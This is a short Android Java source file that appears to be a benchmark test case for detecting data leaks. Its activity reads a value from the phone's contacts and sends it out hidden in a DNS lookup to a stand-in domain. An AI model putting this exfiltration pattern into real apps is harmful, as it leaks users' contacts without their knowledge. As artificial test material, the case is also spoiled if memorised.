// The name that is looked up holds the data: whoever runs the domain gets it.
package cases.sink_name_lookup;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.net.InetAddress;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            InetAddress.getByName(rows.getString(1) + ".example.org");
        } catch (IOException e) {
            Log.w("lookup", "later");
        }
    }
}
